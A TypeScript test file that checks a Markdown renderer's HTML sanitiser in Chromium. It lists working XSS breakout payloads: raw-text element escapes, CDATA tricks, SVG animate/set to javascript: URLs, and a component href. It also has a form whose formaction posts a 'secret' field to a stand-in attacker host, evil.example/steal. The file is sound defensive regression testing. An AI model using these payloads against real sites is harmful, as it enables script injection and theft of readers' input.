// The raw-HTML breakouts of the hardening re-attack, in Chromium. Each case's Markdown is rendered twice:
// as markdown-it writes it (what reached out/ before the check parsed as the browser does: the old check
// passed every one of these) and through renderMarkdown (parse5, the allowlist, the page written from the
// checked tree). The first must run the attacker's code in Chromium, which proves the case is real; the
// second must not, and must report it.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import MarkdownIt from "markdown-it";
import type { Browser, Page } from "playwright-core";
import { createMarkdown, renderMarkdown } from "../../src/markdown/renderMarkdown.ts";
import { CHROMIUM_MISSING, hasChromium, launchChromium } from "./support/browser.ts";

const skip = !hasChromium();
if (skip) console.log(CHROMIUM_MISSING);

/** A case: its Markdown, what the old pipeline wrote for it (when not markdown-it's own output), and what sets it off. */
interface Breakout {
  readonly name: string;
  readonly markdown: string;
  readonly before?: string;
  /** Clicks the link the attack hides (for attacks that need a reader's click). */
  readonly click?: string;
}

const CASES: readonly Breakout[] = [
  { name: "<xmp> raw text", markdown: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: "<noscript> raw text", markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: "<noembed> raw text", markdown: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
  { name: "<textarea> inline", markdown: 'Text <textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { name: "<title> inline", markdown: 'Text <title><p title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: "<style> inline", markdown: 'Text <style><p title="</style><img src=x onerror=alert(1)>"></style>' },
  { name: "CDATA read as a bogus comment", markdown: "<![CDATA[ ><img src=x onerror=alert(1)> ]]>" },
  {
    name: "SVG <animate> to a script URL",
    markdown: '<svg width="200" height="50"><a><animate attributeName="href" values="javascript:alert(1)"/><text x="10" y="30">go</text></a></svg>',
    click: "svg text",
  },
  {
    name: "SVG <set> to a script URL",
    markdown: '<svg width="200" height="50"><a><set attributeName="href" to="javascript:alert(1)"/><text x="10" y="30">go</text></a></svg>',
    click: "svg text",
  },
  {
    name: "a component's URL prop",
    markdown: '<UrlBox text="Click" href="javascript:alert(1)" />',
    before: '<div class="url-box"><a class="url-box__link" href="javascript:alert(1)">Click</a></div>',
    click: ".url-box a",
  },
];

const md = createMarkdown();
/** What markdown-it writes for raw HTML, as the old pipeline wrote it once its check passed (raw HTML verbatim). */
const plain = new MarkdownIt({ html: true });
let browser: Browser;

/**
 * Loads `body` in a page like the site's (inside a <div> of <main>) and says whether an alert fired within
 * `waitMs` (long where the case must fire, so that a loaded machine cannot make it look inert).
 */
async function fires(body: string, click: string | undefined, waitMs: number): Promise<boolean> {
  const page: Page = await browser.newPage();
  try {
    let alerted = false;
    page.on("dialog", (dialog) => {
      alerted = true;
      void dialog.dismiss();
    });
    await page.setContent(`<!doctype html><html><head><title>t</title></head><body><main><div class="markdown">${body}</div></main></body></html>`);
    if (click && (await page.locator(click).count()) > 0) await page.locator(click).first().click({ timeout: 2000 });
    for (let waited = 0; !alerted && waited < waitMs; waited += 50) await page.waitForTimeout(50);
    return alerted;
  } finally {
    await page.close();
  }
}

describe("raw HTML breakouts in Chromium", { skip: skip ? CHROMIUM_MISSING : false }, () => {
  before(async () => {
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
  });

  for (const breakout of CASES) {
    test(`${breakout.name}: ran as the old pipeline wrote it; refused and inert now`, async () => {
      assert.equal(await fires(breakout.before ?? plain.render(breakout.markdown), breakout.click, 10_000), true, "the case does not run in Chromium");
      const now = renderMarkdown(md, { body: breakout.markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
      assert.ok(now.diagnostics.length > 0, "no diagnostic");
      assert.ok(
        now.diagnostics.every((d) => d.severity === "error"),
        JSON.stringify(now.diagnostics),
      );
      assert.equal(await fires(now.html, breakout.click, 1000), false, `still runs: ${now.html}`);
    });
  }

  test("a <button formaction> posted the reader off-site; refused and inert now", async () => {
    const markdown = '<form><input name="q" value="secret"><button formaction="https://evil.example/steal">Go</button></form>';
    const posted = async (body: string, waitMs: number) => {
      const page = await browser.newPage();
      try {
        let sent = false;
        await page.route("https://evil.example/**", (route) => {
          sent = true;
          return route.fulfill({ status: 204, body: "" });
        });
        await page.setContent(`<!doctype html><html><body><main><div>${body}</div></main></body></html>`);
        if ((await page.locator("button").count()) > 0) await page.locator("button").click({ timeout: 2000 });
        for (let waited = 0; !sent && waited < waitMs; waited += 50) await page.waitForTimeout(50);
        return sent;
      } finally {
        await page.close();
      }
    };
    assert.equal(await posted(plain.render(markdown), 10_000), true, "the form did not post");
    const now = renderMarkdown(md, { body: markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
    assert.deepEqual(
      now.diagnostics.map((d) => d.message),
      ["raw HTML has a <form> element, which sends readers' input elsewhere"],
    );
    assert.equal(await posted(now.html, 1000), false);
  });
});
